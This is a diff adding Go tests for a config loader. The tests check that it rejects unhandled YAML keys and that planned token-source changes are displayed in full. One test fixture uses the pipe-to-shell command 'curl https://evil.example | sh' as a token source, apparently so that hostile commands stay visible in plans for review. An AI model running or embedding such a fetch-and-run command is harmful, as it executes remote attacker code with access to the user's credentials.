@@ -0,0 +1,83 @@
+package config
+
+import (
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+)
+
+func TestLoadDesiredStateRejectsUnhandledKeys(t *testing.T) {
+	tests := []struct {
+		name    string
+		yaml    string
+		wantErr string // "" for none
+	}{
+		{"handled keys", "version: 1\ncontexts:\n  - name: work\nrules: []\nrepositories: []\n", ""},
+		{"policies", "contexts: []\npolicies:\n  allowedTokenSources: [env]\n", "remove policies"},
+		{"several", "sync:\n  remote: x\nkeyring:\n  backend: file\n", "remove keyring, sync"},
+		{"unknown key", "contxts: []\n", "remove contxts"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			path := filepath.Join(t.TempDir(), "team.yaml")
+			if err := os.WriteFile(path, []byte(tt.yaml), 0600); err != nil {
+				t.Fatal(err)
+			}
+			_, err := LoadDesiredState(path)
+			switch {
+			case tt.wantErr == "" && err != nil:
+				t.Fatalf("LoadDesiredState() error = %v", err)
+			case tt.wantErr != "" && (err == nil || !strings.Contains(err.Error(), tt.wantErr)):
+				t.Fatalf("LoadDesiredState() error = %v, want it to contain %q", err, tt.wantErr)
+			}
+		})
+	}
+}
+
+func TestPlanShowsTokenSourceInFull(t *testing.T) {
+	command := func(cmd string) *TokenSource { return &TokenSource{Type: TokenSourceCommand, Command: cmd} }
+	tests := []struct {
+		name   string
+		have   []Context
+		want   Context
+		wantIn string
+	}{
+		{
+			name:   "new context runs a command",
+			want:   Context{Name: "work", Username: "u", TokenSource: command("curl https://evil.example | sh")},
+			wantIn: "token source 'command:curl https://evil.example | sh'",
+		},
+		{
+			name:   "command changes",
+			have:   []Context{{Name: "work", Username: "u", TokenSource: command("op read op://work/gh")}},
+			want:   Context{Name: "work", Username: "u", TokenSource: command("op read op://other/gh")},
+			wantIn: "'command:op read op://work/gh' -> 'command:op read op://other/gh'",
+		},
+		{
+			name:   "env variable changes",
+			have:   []Context{{Name: "work", Username: "u", TokenSource: &TokenSource{Type: TokenSourceEnv, Env: "GH_TOKEN"}}},
+			want:   Context{Name: "work", Username: "u", TokenSource: &TokenSource{Type: TokenSourceEnv, Env: "WORK_TOKEN"}},
+			wantIn: "'env:GH_TOKEN' -> 'env:WORK_TOKEN'",
+		},
+		{
+			name: "vault path changes",
+			have: []Context{{Name: "work", Username: "u"}},
+			want: Context{Name: "work", Username: "u", TokenSource: &TokenSource{Type: TokenSourceVault, Vault: &VaultSource{
+				Path: "github/work", Address: "https://vault.example.com",
+			}}},
+			wantIn: "'keyring' -> 'vault:github/work (address https://vault.example.com)'",
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			changes := PlanChanges(&AppConfig{Contexts: tt.have}, &AppConfig{Contexts: []Context{tt.want}}, false)
+			if len(changes) != 1 {
+				t.Fatalf("PlanChanges() = %v, want one change", changes)
+			}
+			if got := changes[0].String(); !strings.Contains(got, tt.wantIn) {
+				t.Errorf("change = %q, want it to contain %q", got, tt.wantIn)
+			}
+		})
+	}
+}